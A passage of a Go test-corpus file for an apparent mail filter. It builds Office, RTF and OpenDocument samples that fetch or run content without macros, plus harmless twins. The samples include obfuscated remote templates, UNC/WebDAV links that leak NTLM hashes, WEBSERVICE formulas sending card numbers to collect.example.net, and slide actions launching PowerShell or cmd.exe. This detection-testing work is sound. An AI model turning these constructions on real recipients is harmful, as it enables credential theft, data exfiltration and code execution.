package corpus

import (
	"encoding/hex"
	"strings"

	"github.com/kensa-milter/kensa/internal/corpus/formats"
	"github.com/kensa-milter/kensa/policy"
)

// Office documents that fetch or run something from elsewhere without a
// macro, written the ways Office and LibreOffice read them: RTF templates,
// fields and linked pictures behind RTF's obfuscations, linked OLE1
// objects, Excel external links and web queries, OpenDocument linked
// sheets and sections, PowerPoint actions that run a program. Each has an
// honest twin among officeLinkClean: an ordinary hyperlink, a picture
// linked from the intranet, a workbook linked to another on a local drive,
// a slide hyperlink to a web page.

// rtfLinkedObject is an RTF document with an OLE1 linked object
// (\objautlink: Word updates it as it opens the document) of class
// Excel.Sheet.12 whose source is topic.
func rtfLinkedObject(text, topic string) []byte {
	h := hex.EncodeToString(formats.OLE1Linked("Excel.Sheet.12", topic, "Sheet1!R1C1:R4C2", ""))
	var b strings.Builder
	for i := 0; i < len(h); i += 64 {
		b.WriteString(h[i:min(i+64, len(h))] + "\r\n")
	}
	return []byte(`{\rtf1\ansi\deff0{\fonttbl{\f0 Calibri;}}` + "\r\n" + `\pard ` + text + `\par` + "\r\n" +
		`{\object\objautlink\rsltpict\objw2000\objh800{\*\objclass Excel.Sheet.12}{\*\objdata ` + "\r\n" + b.String() + `}{\result {\pict\wmetafile8 0100}}}` + "\r\n}")
}

// rtfShapePicture is an RTF document with a picture frame shape (type 75)
// whose picture is linked from name (pibName) with pibFlags flags, as Word
// writes a picture inserted with "Link to File".
func rtfShapePicture(text, name string, flags int) []byte {
	return []byte(`{\rtf1\ansi\deff0{\fonttbl{\f0 Calibri;}}\pard ` + text + `\par` + "\r\n" +
		`{\shp{\*\shpinst\shpleft0\shptop0\shpright2000\shpbottom1000\shpwr3\shpwrk0\shpfblwtxt0\shpz0` +
		`{\sp{\sn shapeType}{\sv 75}}{\sp{\sn fFlipH}{\sv 0}}{\sp{\sn pibName}{\sv ` + name + `}}{\sp{\sn pibFlags}{\sv ` + itoa(flags) + `}}` +
		`{\sp{\sn fLine}{\sv 0}}}{\shprslt {\pard x\par}}}` + "\r\n}")
}

// pptxOf is a one-slide presentation (a slide show, .ppsx, when show)
// whose slide holds shapes (p:sp elements) and whose slide relationships
// are rels, with the master and layout PowerPoint needs.
func pptxOf(shapes, rels string, show bool) []byte {
	const (
		p = `xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="` + officeRel + `" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"`
		t = `<p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>`
	)
	main := "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
	if show {
		main = "application/vnd.openxmlformats-officedocument.presentationml.slideshow.main+xml"
	}
	ct := xmlHead + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
		`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>` +
		`<Override PartName="/ppt/presentation.xml" ContentType="` + main + `"/>` +
		`<Override PartName="/ppt/slides/slide1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slide+xml"/>` +
		`<Override PartName="/ppt/slideLayouts/slideLayout1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slideLayout+xml"/>` +
		`<Override PartName="/ppt/slideMasters/slideMaster1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slideMaster+xml"/></Types>`
	relsOf := func(r string) []byte {
		return []byte(xmlHead + `<Relationships xmlns="` + relsNS + `">` + r + `</Relationships>`)
	}
	rel := func(id, typ, target string) string {
		return `<Relationship Id="` + id + `" Type="` + officeRel + `/` + typ + `" Target="` + target + `"/>`
	}
	return zipOf(
		file{"[Content_Types].xml", []byte(ct)},
		file{"_rels/.rels", relsOf(rel("rId1", "officeDocument", "ppt/presentation.xml"))},
		file{"ppt/presentation.xml", []byte(xmlHead + `<p:presentation ` + p + `><p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="rId1"/></p:sldMasterIdLst>` +
			`<p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>`)},
		file{"ppt/_rels/presentation.xml.rels", relsOf(rel("rId1", "slideMaster", "slideMasters/slideMaster1.xml") + rel("rId2", "slide", "slides/slide1.xml"))},
		file{"ppt/slides/slide1.xml", []byte(xmlHead + `<p:sld ` + p + `>` + t + shapes + `</p:spTree></p:cSld></p:sld>`)},
		file{"ppt/slides/_rels/slide1.xml.rels", relsOf(rel("rId1", "slideLayout", "../slideLayouts/slideLayout1.xml") + rels)},
		file{"ppt/slideLayouts/slideLayout1.xml", []byte(xmlHead + `<p:sldLayout ` + p + `>` + t + `</p:spTree></p:cSld></p:sldLayout>`)},
		file{"ppt/slideLayouts/_rels/slideLayout1.xml.rels", relsOf(rel("rId1", "slideMaster", "../slideMasters/slideMaster1.xml"))},
		file{"ppt/slideMasters/slideMaster1.xml", []byte(xmlHead + `<p:sldMaster ` + p + `>` + t + `</p:spTree></p:cSld>` +
			`<p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2" accent3="accent3" accent4="accent4" accent5="accent5" accent6="accent6" hlink="hlink" folHlink="folHlink"/>` +
			`<p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rId1"/></p:sldLayoutIdLst></p:sldMaster>`)},
		file{"ppt/slideMasters/_rels/slideMaster1.xml.rels", relsOf(rel("rId1", "slideLayout", "../slideLayouts/slideLayout1.xml"))},
	)
}

// slideShape is a text box shape whose non-visual properties hold link
// (a:hlinkClick or a:hlinkHover elements).
func slideShape(id int, text, link string) string {
	return `<p:sp><p:nvSpPr><p:cNvPr id="` + itoa(id) + `" name="Shape ` + itoa(id) + `">` + link + `</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr>` +
		`<p:spPr><a:xfrm><a:off x="457200" y="` + itoa(id*1000000) + `"/><a:ext cx="8229600" cy="900000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr>` +
		`<p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang="en-US" sz="4000"/><a:t>` + xmlEscape(text) + `</a:t></a:r></a:p></p:txBody></p:sp>`
}

// hyperlinkRel is an External hyperlink relationship.
func hyperlinkRel(id, target string) string {
	return `<Relationship Id="` + id + `" Type="` + officeRel + `/hyperlink" Target="` + xmlEscape(target) + `" TargetMode="External"/>`
}

// connectionsPart is an xl/connections.xml holding conn.
func connectionsPart(conn string) docxPart {
	return docxPart{name: "xl/connections.xml", ctype: "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
		relType: officeRel + "/connections", relID: "rId6",
		data: []byte(xmlHead + `<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">` + conn + `</connections>`)}
}

// webQuery is a web query connection (Data > From Web, the legacy kind)
// to url, refreshed as the workbook opens when onOpen.
func webQuery(url string, onOpen bool) string {
	refresh := ""
	if onOpen {
		refresh = ` refreshOnLoad="1"`
	}
	return `<connection id="1" name="Connection" type="4" refreshedVersion="8" background="1" saveData="1"` + refresh + `>` +
		`<webPr sourceData="1" parsePre="1" consecutive="1" xl2000="1" url="` + xmlEscape(url) + `" htmlTables="1"/></connection>`
}

const (
	ctPptx = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
	ctPpsx = "application/vnd.openxmlformats-officedocument.presentationml.slideshow"
)

// odsLinked is a spreadsheet as LibreOffice saves one with an external
// reference (an Excel external link opened and saved): a formula naming
// the other file, and the sheet it caches, linked with table:table-source.
func odsLinked(target string) []byte {
	esc := xmlEscape(target)
	return odf(ctOds, `<office:spreadsheet><table:table table:name="Summary"><table:table-row>`+
		`<table:table-cell table:formula="of:=[&apos;`+esc+`&apos;#$Sheet1.B9]" office:value-type="float" office:value="5"><text:p>5</text:p></table:table-cell></table:table-row></table:table>`+
		`<table:table table:name="&apos;`+esc+`&apos;#Sheet1" table:print="false"><table:table-source xmlns:xlink="http://www.w3.org/1999/xlink" xlink:type="simple" xlink:href="`+esc+`" table:table-name="Sheet1" table:mode="copy-results-only"/>`+
		`<table:table-row><table:table-cell office:value-type="float" office:value="5"><text:p>5</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>`)
}

// odsFormula is a spreadsheet whose first cell holds formula (in
// OpenDocument's syntax, escaped for XML) next to a cell of data.
func odsFormula(formula string) []byte {
	return odf(ctOds, `<office:spreadsheet><table:table table:name="Rates"><table:table-row>`+
		`<table:table-cell table:formula="of:=`+formula+`" office:value-type="string" office:string-value="ok"><text:p>ok</text:p></table:table-cell>`+
		`<table:table-cell office:value-type="string"><text:p>ACME-4471</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>`)
}

// officeLinkCases are the documents, in the three wrappings of officeCases.
func officeLinkCases() []officeCase {
	return []officeCase{
		{name: "rtf-template-obfuscated", about: "RTF whose {\\*\\template} loads a remote template, its address broken up the ways Word still reads: an unknown ignorable destination inside it, \\uN with its fallback character, an empty group",
			action: policy.Quarantine, subject: "Letter", body: "The letter.\n", ctype: "application/rtf", file: "letter.rtf",
			data:  []byte(`{\rtf1\ansi\deff0{\fonttbl{\f0 Calibri;}}{\*\template h{\*\kensajunk zz}tt\u112?s://templates.example.net/{}letter.dotm}\pard Dear customer,\par}`),
			wants: []relWant{{"heuristic", "remote-template", ""}}},
		{name: "rtf-includetext-obfuscated", about: "RTF whose INCLUDETEXT field pulls a document from the web, the field's name and address broken by ignorable destinations (a bookmark start inside the host)",
			action: policy.Quarantine, subject: "Terms", body: "Our terms.\n", ctype: "application/rtf", file: "terms.rtf",
			data:  []byte(`{\rtf1\ansi\deff0\pard Terms{\field{\*\fldinst INCLU{\*\kensajunk q}DETEXT "https://files.exa{\*\bkmkstart t}mple.net/terms.rtf" \\* MERGEFORMAT}{\fldrslt terms}}\par}`),
			wants: []relWant{{"heuristic", "remote-fetch", ""}}},
		{name: "rtf-shape-linked-picture-unc", about: "RTF with a picture shape whose picture is linked, not stored (pibName on an SMB share of an Internet host, pibFlags with msoblipflagLinkToFile): Word loads it as it shows the page, sending the NTLM hash",
			action: policy.Quarantine, subject: "Floor plan", body: "The floor plan.\n", ctype: "application/rtf", file: "plan.rtf",
			data:  rtfShapePicture("Floor plan", `\\\\`+leakHost+`\\share\\plan.png`, 10),
			wants: []relWant{{"heuristic", "remote-fetch", ""}}},
		{name: "rtf-linked-object-unc", about: "RTF with a linked OLE1 object (\\objautlink: updated as Word opens it) whose source workbook is on a WebDAV share of an Internet host",
			action: policy.Quarantine, subject: "Figures", body: "The figures.\n", ctype: "application/rtf", file: "figures.rtf",
			data:  rtfLinkedObject("Figures", `\\files.example.net@SSL@443\DavWWWRoot\figures.xlsx`),
			wants: []relWant{{"heuristic", "remote-fetch", ""}}},
		{name: "rtf-linked-object-web", about: "RTF with a linked OLE1 object (\\objautlink) whose source is a web address: Word fetches it as it updates the link",
			action: policy.Quarantine, subject: "Figures", body: "The figures.\n", ctype: "application/rtf", file: "figures.rtf",
			data:  rtfLinkedObject("Figures", "https://files.example.net/figures.xlsx"),
			wants: []relWant{{"heuristic", "remote-template", ""}}},
		{name: "xlsx-external-link-webdav", about: "xlsx whose external reference (externalLinkPath) names a workbook on a WebDAV share of an Internet host (\\\\host@SSL@443\\DavWWWRoot)",
			action: policy.Quarantine, subject: "Budget", body: "The budget summary.\n", ctype: ctXlsx, file: "summary.xlsx",
			data:  xlsxOf([][]string{{"Total", "5"}}, nil, `\\files.example.net@SSL@443\DavWWWRoot\budget.xlsx`),
			wants: []relWant{{"heuristic", "remote-fetch", "/xl/externalLinks/_rels/externalLink1.xml.rels"}}},
		{name: "xls-external-link-unc", about: "Excel 97-2003 workbook whose external reference (SUPBOOK) names a workbook on an SMB share of an Internet host, its path encoded as .xls files write it",
			action: policy.Quarantine, subject: "Budget", body: "The budget summary.\n", ctype: "application/vnd.ms-excel", file: "summary.xls",
			data:  formats.XLS(formats.XLSWorkbook{Sheets: []formats.XLSSheet{{Name: "Summary"}}, External: []formats.XLSExternal{{Path: "\x01\x01@" + leakHost + "\x03share\x03budget.xlsx", Sheets: []string{"Sheet1"}}}}),
			wants: []relWant{{"heuristic", "remote-fetch", "/external-links"}}},
		{name: "doc-linked-object-unc", about: "Word 97-2003 document whose ObjectPool holds a workbook object linked (a composite of a file moniker and an item moniker) to cells of a workbook on an SMB share of an Internet host: Word reaches for it to update the link",
			action: policy.Quarantine, subject: "Budget", body: "The budget memo.\n", ctype: "application/msword", file: "memo.doc",
			data: formats.CFB(formats.Embed(append(wordDocEntries("Budget memo\rThe figures:\r"), formats.CFBEntry{Name: "ObjectPool", Storage: true, Parent: -1}), 3, "_1431", formats.ExcelSheet8CLSID,
				formats.LinkedWorkbook(formats.OLELinkStream(formats.CompositeMoniker(formats.FileMoniker(`\\`+leakHost+`\share\budget.xlsx`), formats.ItemMoniker("!", "Sheet1!R1C1:R9C4")))))),
			wants: []relWant{{"heuristic", "remote-fetch", "/ObjectPool/_1431/Ole"}}},
		{name: "xls-linked-object-webdav", about: "Excel 97-2003 workbook whose MBD storage holds an object linked (a file moniker) to a document on a WebDAV share of an Internet host (host@SSL@443\\DavWWWRoot)",
			action: policy.Quarantine, subject: "Plan", body: "The plan.\n", ctype: "application/vnd.ms-excel", file: "plan.xls",
			data: formats.CFB(formats.Embed(formats.XLSEntries(formats.XLSWorkbook{Sheets: []formats.XLSSheet{{Name: "Plan"}}}), -1, "MBD0049A1B2", formats.ExcelSheet8CLSID,
				formats.LinkedWorkbook(formats.OLELinkStream(formats.FileMoniker(`\\files.example.net@SSL@443\DavWWWRoot\plan.xlsx`))))),
			wants: []relWant{{"heuristic", "remote-fetch", "/MBD0049A1B2/Ole"}}},
		{name: "xlsx-web-query-on-open", about: "xlsx with a web query connection (xl/connections.xml webPr url) refreshed as the workbook opens: what the page holds lands in the cells",
			action: policy.Tag, subject: "Rates", body: "Today's rates.\n", ctype: ctXlsx, file: "rates.xlsx",
			data:  xlsxOf([][]string{{"Rate", "1"}}, nil, "", connectionsPart(webQuery("http://rates.example.net/today.html", true))),
			wants: []relWant{{"heuristic", "power-query-fetch", "/xl/connections.xml"}}},
		{name: "xlsb-web-query-on-open", about: "Excel binary workbook (.xlsb) with a web query connection (xl/connections.bin: BrtBeginExtConnection with fRefreshOnLoad, BrtBeginECWebProps with its URL) refreshed as the workbook opens",
			action: policy.Tag, subject: "Rates", body: "Today's rates.\n", ctype: "application/vnd.ms-excel.sheet.binary.macroEnabled.12", file: "rates.xlsb",
			data: formats.XLSB(formats.XLSWorkbook{Sheets: []formats.XLSSheet{{Name: "Rates"}},
				Connections: []formats.XLSBConnection{{Name: "Rates", URL: "http://rates.example.net/today.html", RefreshOnLoad: true}}}),
			wants: []relWant{{"heuristic", "power-query-fetch", "/xl/connections.bin"}}},
		{name: "ods-linked-sheet-unc", about: "OpenDocument spreadsheet as LibreOffice saves an Excel external link: a formula referring to a workbook on file://host (an Internet host's SMB share) and the linked sheet caching it (table:table-source)",
			action: policy.Quarantine, subject: "Budget", body: "The budget summary.\n", ctype: ctOds, file: "summary.ods",
			data:  odsLinked("file://" + leakHost + "/share/budget.xlsx"),
			wants: []relWant{{"heuristic", "remote-fetch", "/content.xml"}}},
		{name: "ods-webservice-exfil", about: "OpenDocument spreadsheet whose cell calls WEBSERVICE with the next cell's content (ENCODEURL) on a host of the sender's choosing, as LibreOffice saves Excel's WEBSERVICE: the sheet's data leaves as it is calculated",
			action: policy.Tag, subject: "Order form", body: "Please fill in the order form.\n", ctype: ctOds, file: "order.ods",
			data:  odsFormula(`COM.MICROSOFT.WEBSERVICE(&quot;http://collect.example.net/c?k=&quot;&amp;COM.MICROSOFT.ENCODEURL([.B1]))`),
			wants: []relWant{{"heuristic", "formula-web-fetch", "/content.xml"}}},
		{name: "ods-webservice-cell-address", about: "OpenDocument spreadsheet whose WEBSERVICE takes its address from another cell, which builds it from the cell where the reader types a card number: what the reader enters leaves as the sheet is calculated",
			action: policy.Tag, subject: "Order form", body: "Please fill in the order form.\n", ctype: ctOds, file: "order.ods",
			data: odf(ctOds, `<office:spreadsheet><table:table table:name="Order"><table:table-row>`+
				`<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE([.A2])" office:value-type="string" office:string-value="ok"><text:p>ok</text:p></table:table-cell>`+
				`<table:table-cell office:value-type="string"><text:p>Card number:</text:p></table:table-cell><table:table-cell/></table:table-row><table:table-row>`+
				`<table:table-cell table:formula="of:=&quot;https://collect.example.net/c?n=&quot;&amp;[.C1]" office:value-type="string" office:string-value="x"><text:p>x</text:p></table:table-cell>`+
				`</table:table-row></table:table></office:spreadsheet>`),
			wants: []relWant{{"heuristic", "formula-web-fetch", "/content.xml"}}},
		{name: "ods-webservice-indirect-host", about: "OpenDocument spreadsheet with two web calls: one sends the reader's card number to a fixed host, the other takes its host from INDIRECT, so where it goes is not known before the sheet is calculated",
			action: policy.Tag, subject: "Order form", body: "Please fill in the order form.\n", ctype: ctOds, file: "order.ods",
			data: odf(ctOds, `<office:spreadsheet><table:table table:name="Order"><table:table-row>`+
				`<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;https://collect.example.net/c?n=&quot;&amp;[.C1])" office:value-type="string" office:string-value="ok"><text:p>ok</text:p></table:table-cell>`+
				`<table:table-cell office:value-type="string"><text:p>Card number:</text:p></table:table-cell><table:table-cell/></table:table-row><table:table-row>`+
				`<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;https://&quot;&amp;INDIRECT(&quot;Z&quot;&amp;&quot;9&quot;)&amp;&quot;/p&quot;)" office:value-type="string" office:string-value="x"><text:p>x</text:p></table:table-cell>`+
				`</table:table-row></table:table></office:spreadsheet>`),
			wants: []relWant{{"heuristic", "formula-web-fetch", "/content.xml"}, {"heuristic", "formula-web-hidden", "/content.xml"}}},
		{name: "xlsb-webservice-form", about: "Excel binary workbook (.xlsb) whose cell calls WEBSERVICE (a future function kept as a hidden name, PtgName and PtgFuncVar 255) with the address another cell builds from the cell the reader fills in",
			action: policy.Tag, subject: "Order form", body: "Please fill in the order form.\n", ctype: "application/vnd.ms-excel.sheet.binary.macroEnabled.12", file: "order.xlsb",
			data: formats.XLSB(formats.XLSWorkbook{
				Sheets: []formats.XLSSheet{{Name: "Order", Formulas: []formats.XLSFormula{
					{Rgce: formats.Cat(formats.PtgName(1), formats.Ptg12Ref(2, 0), formats.PtgFuncVar(2, 0xFF, false))},
					{Row: 2, Rgce: formats.Cat(formats.Ptg12Str("https://collect.example.net/c?n="), formats.Ptg12Ref(0, 2), formats.PtgConcat)}},
					Cells: []formats.XLSCell{{Row: 0, Col: 1, Text: "Card number:"}}}},
				Names:   []formats.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
				Strings: []string{"Card number:"}}),
			wants: []relWant{{"heuristic", "formula-web-fetch", "/web-formulas"}}},
		{name: "xlsx-webservice-shared-copy", about: "xlsx whose WEBSERVICE is filled down a column as Excel saves it (a shared formula: the first row holds it, the others only point at it), each copy sending its own row's card number; the first row's is filled in, the second row's is the one the reader types",
			action: policy.Tag, subject: "Order form", body: "Please fill in your card number in row 2.\n", ctype: ctXlsx, file: "order.xlsx",
			data: xlsxSheet(`<row r="1"><c r="A1" t="str"><f t="shared" ref="A1:A3" si="0">_xlfn.WEBSERVICE("https://collect.example.net/c?n="&amp;B1)</f><v>ok</v></c><c r="B1" t="inlineStr"><is><t>4000-0000-0000-0002</t></is></c></row>`+
				`<row r="2"><c r="A2" t="str"><f t="shared" si="0"/><v>ok</v></c></row><row r="3"><c r="A3" t="str"><f t="shared" si="0"/><v>ok</v></c><c r="B3" t="inlineStr"><is><t>sample</t></is></c></row>`, nil, ""),
			wants: []relWant{{"heuristic", "formula-web-fetch", "/xl/worksheets/sheet1.xml"}}},
		{name: "xlsx-connection-odc-webdav", about: "xlsx whose data connection is set to use only its connection file (onlyUseConnectionFile), an .odc on a WebDAV share of an Internet host (odcFile \\\\host@SSL\\DavWWWRoot\\...), and refreshes as the workbook opens: Excel fetches the sender's .odc, which says what to connect to",
			action: policy.Tag, subject: "Sales figures", body: "The sales figures refresh as you open the workbook.\n", ctype: ctXlsx, file: "sales.xlsx",
			data: xlsxOf([][]string{{"Region", "Sales"}}, nil, "", connectionsPart(`<connection id="1" odcFile="\\files.example.net@SSL\DavWWWRoot\conn\Sales.odc" onlyUseConnectionFile="1" name="Sales" type="5" refreshedVersion="8" refreshOnLoad="1" background="1">`+
				`<dbPr connection="Provider=SQLOLEDB.1;Integrated Security=SSPI;Initial Catalog=Sales;Data Source=SQL01" command="&quot;Sales&quot;" commandType="3"/></connection>`)),
			wants: []relWant{{"heuristic", "query-file-fetch", "/xl/connections.xml"}}},
		{name: "xls-webservice-shared-copy", about: "Excel 97-2003 workbook (.xls) whose WEBSERVICE is filled down a column as Excel saves it (a shared formula: each cell a ptgExp, the formula once in a SHRFMLA, its reference an offset, PtgRefN), each copy sending its own row's card number; the first row's is filled in, the second row's is the one the reader types",
			action: policy.Tag, subject: "Order form", body: "Please fill in your card number in row 2.\n", ctype: "application/vnd.ms-excel", file: "order.xls",
			data: formats.XLS(formats.XLSWorkbook{
				Sheets: []formats.XLSSheet{{Name: "Order", Formulas: []formats.XLSFormula{
					{Col: 1, Down: 3, Rgce: formats.Cat(formats.PtgName(1), formats.PtgStr("https://collect.example.net/c?n="), formats.PtgRefN(0, -1), formats.PtgConcat, formats.PtgFuncVar(2, 0xFF, false))}}}},
				Names:   []formats.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
				Strings: []string{"4000-0000-0000-0002"}}),
			wants: []relWant{{"heuristic", "formula-web-fetch", "/web-formulas"}}},
		{name: "xls-webservice-sst-first", about: "Excel 97-2003 workbook (.xls) whose WEBSERVICE address is a shared string (a LABELSST cell) and the cell below it where the reader types a card number; the SST comes before the names, one of them the web function's, and the sheets lie inside the body of a record of an unknown type: Excel and LibreOffice read records in any order and seek to each sheet where its BOUNDSHEET says",
			action: policy.Tag, subject: "Order form", body: "Please fill in your card number in A2.\n", ctype: "application/vnd.ms-excel", file: "order.xls",
			data: formats.XLS(formats.XLSWorkbook{
				Sheets: []formats.XLSSheet{{Name: "Order", Formulas: []formats.XLSFormula{
					{Col: 2, Rgce: formats.Cat(formats.PtgName(1), formats.PtgRef(0, 0), formats.PtgRef(1, 1), formats.PtgConcat, formats.PtgFuncVar(2, 0xFF, false))}}}},
				Names:   []formats.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
				Strings: []string{"https://collect.example.net/c?n="}, SSTFirst: true, Tucked: true}),
			wants: []relWant{{"heuristic", "formula-web-fetch", "/web-formulas"}}},
		{name: "xlsb-webservice-shared-copy", about: "Excel binary workbook (.xlsb) whose WEBSERVICE is filled down a column as Excel saves it (a shared formula: each cell a PtgExp, the formula once in a BrtShrFmla, its reference an offset, Ptg12RefN), each copy sending its own row's card number; the first row's is filled in, the second row's is the one the reader types",
			action: policy.Tag, subject: "Order form", body: "Please fill in your card number in row 2.\n", ctype: "application/vnd.ms-excel.sheet.binary.macroEnabled.12", file: "order.xlsb",
			data: formats.XLSB(formats.XLSWorkbook{
				Sheets: []formats.XLSSheet{{Name: "Order", Formulas: []formats.XLSFormula{
					{Col: 1, Down: 3, Rgce: formats.Cat(formats.PtgName(1), formats.Ptg12Str("https://collect.example.net/c?n="), formats.Ptg12RefN(0, -1), formats.PtgConcat, formats.PtgFuncVar(2, 0xFF, false))}},
					Cells: []formats.XLSCell{{Row: 0, Col: 0, Text: "4000-0000-0000-0002"}}}},
				Names:   []formats.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
				Strings: []string{"4000-0000-0000-0002"}}),
			wants: []relWant{{"heuristic", "formula-web-fetch", "/web-formulas"}}},
		{name: "xlsb-connection-odc-webdav", about: "Excel binary workbook (.xlsb) whose data connection (xl/connections.bin, BrtBeginExtConnection's stConnectionFile) was made from an .odc on a WebDAV share of an Internet host and refreshes as the workbook opens: the binary twin of xlsx-connection-odc-webdav",
			action: policy.Tag, subject: "Sales figures", body: "The sales figures refresh as you open the workbook.\n", ctype: "application/vnd.ms-excel.sheet.binary.macroEnabled.12", file: "sales.xlsb",
			data: formats.XLSB(formats.XLSWorkbook{Sheets: []formats.XLSSheet{{Name: "Sales"}},
				Connections: []formats.XLSBConnection{{Name: "Sales", ConnectionFile: `\\files.example.net@SSL\DavWWWRoot\conn\Sales.odc`, RefreshOnLoad: true}}}),
			wants: []relWant{{"heuristic", "query-file-fetch", "/xl/connections.bin"}}},
		{name: "xlsb-webservice-setup-sheet", about: "Excel binary workbook (.xlsb) whose WEBSERVICE takes its address from a cell of another sheet (a 3-D reference, Ptg12Ref3d through the external sheet list) and sends the cell of the order sheet where the reader types a card number",
			action: policy.Tag, subject: "Order form", body: "Please fill in the order form.\n", ctype: "application/vnd.ms-excel.sheet.binary.macroEnabled.12", file: "order.xlsb",
			data: formats.XLSB(formats.XLSWorkbook{SheetRefs: true,
				Sheets: []formats.XLSSheet{{Name: "Order", Formulas: []formats.XLSFormula{
					{Rgce: formats.Cat(formats.PtgName(1), formats.Ptg12Ref3d(1, 0, 0), formats.Ptg12Ref(1, 1), formats.PtgConcat, formats.PtgFuncVar(2, 0xFF, false))}},
					Cells: []formats.XLSCell{{Row: 1, Col: 0, Text: "Card number:"}}},
					{Name: "Setup", State: 1, Cells: []formats.XLSCell{{Row: 0, Col: 0, Text: "https://collect.example.net/c?n="}}}},
				Names:   []formats.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
				Strings: []string{"Card number:", "https://collect.example.net/c?n="}}),
			wants: []relWant{{"heuristic", "formula-web-fetch", "/web-formulas"}}},
		{name: "odt-linked-section-web", about: "OpenDocument text whose section is linked to a document on the web (text:section-source), which becomes the section's text, as Word's INCLUDETEXT",
			action: policy.Quarantine, subject: "Terms", body: "Our terms.\n", ctype: ctOdt, file: "terms.odt",
			data: odf(ctOdt, `<office:text><text:p>Terms</text:p><text:section text:name="Terms"><text:section-source xmlns:xlink="http://www.w3.org/1999/xlink" xlink:type="simple" xlink:href="https://files.example.net/terms.odt" text:filter-name="writer8"/>`+
				`<text:p>Loading</text:p></text:section></office:text>`),
			wants: []relWant{{"heuristic", "remote-fetch", "/content.xml"}}},
		{name: "ppsx-hover-program", about: "slide show (.ppsx, opens in the slide show) whose title runs PowerShell when the mouse passes over it (a:hlinkHover, ppaction://program, the command URL-escaped in its hyperlink relationship)",
			action: policy.Quarantine, subject: "Presentation", body: "The presentation for Monday.\n", ctype: ctPpsx, file: "presentation.ppsx",
			data: pptxOf(slideShape(2, "Loading...", `<a:hlinkHover r:id="rId5" action="ppaction://program" highlightClick="1"/>`),
				hyperlinkRel("rId5", `powershell.exe%20-nop%20-w%20hidden%20-c%20notepad.exe`), true),
			wants: []relWant{{"heuristic", "ppt-program-action", "/ppt/slides/slide1.xml"}}},
		{name: "pptx-click-program", about: "presentation whose button runs cmd.exe on a click in the slide show (a:hlinkClick, ppaction://program, a file: URL to the program)",
			action: policy.Quarantine, subject: "Demo", body: "The demo.\n", ctype: ctPptx, file: "demo.pptx",
			data: pptxOf(slideShape(2, "Start the demo", `<a:hlinkClick r:id="rId5" action="PPAction://program"/>`),
				hyperlinkRel("rId5", `file:///C:\Windows\System32\cmd.exe`), false),
			wants: []relWant{{"heuristic", "ppt-program-action", "/ppt/slides/slide1.xml"}}},
	}
}

// officeLinkClean are the honest twins.
func officeLinkClean() []Sample {
	ok := func(name, about string) Sample { return Sample{Name: name, Clean: true, About: about} }
	var out []Sample
	add := func(s Sample, m mail) { out = append(out, build(s, m)) }
	colleague := "Aiko Sato <aiko@corp.example.jp>"
	add(ok("rtf-hyperlink", "an RTF letter with an ordinary HYPERLINK field to a web page"),
		mail{subject: "Letter", root: multipart("mixed", text("The letter.\n"),
			attach("application/rtf", "letter.rtf", []byte(`{\rtf1\ansi\deff0\pard Visit {\field{\*\fldinst HYPERLINK "https://www.example.com/"}{\fldrslt our site}}\par}`)))})
	add(ok("rtf-shape-picture-intranet", "an RTF letter whose picture is linked from the intranet file server (a single-label name), as Word writes Link to File"),
		mail{from: colleague, subject: "Letter", root: multipart("mixed", text("The letter with the letterhead.\n"),
			attach("application/rtf", "letter.rtf", rtfShapePicture("Letterhead", `\\\\fileserver\\templates\\letterhead.png`, 10)))})
	add(ok("doc-linked-object-intranet", "a Word 97-2003 memo whose workbook object is linked to a workbook on the intranet file server (a single-label name)"),
		mail{from: colleague, subject: "Budget", root: multipart("mixed", text("The budget memo, linked to the finance workbook.\n"),
			attach("application/msword", "memo.doc", formats.CFB(formats.Embed(append(wordDocEntries("Budget memo\r"), formats.CFBEntry{Name: "ObjectPool", Storage: true, Parent: -1}), 3, "_1431", formats.ExcelSheet8CLSID,
				formats.LinkedWorkbook(formats.OLELinkStream(formats.CompositeMoniker(formats.FileMoniker(`\\fileserver\finance\budget.xlsx`), formats.ItemMoniker("!", "Sheet1!R1C1:R9C4"))))))))})
	add(ok("rtf-linked-object-local", "an RTF report whose linked workbook (\\objautlink) is on the author's own drive"),
		mail{from: colleague, subject: "Report", root: multipart("mixed", text("The report with the figures linked.\n"),
			attach("application/rtf", "report.rtf", rtfLinkedObject("Report", `C:\Users\aiko\Documents\figures.xlsx`)))})
	add(ok("xlsx-external-link-local", "a workbook whose formulas refer to another workbook on the author's local drive (externalLinkPath file:///C:/...)"),
		mail{from: colleague, subject: "Summary", root: multipart("mixed", text("The summary; the figures come from my budget workbook.\n"),
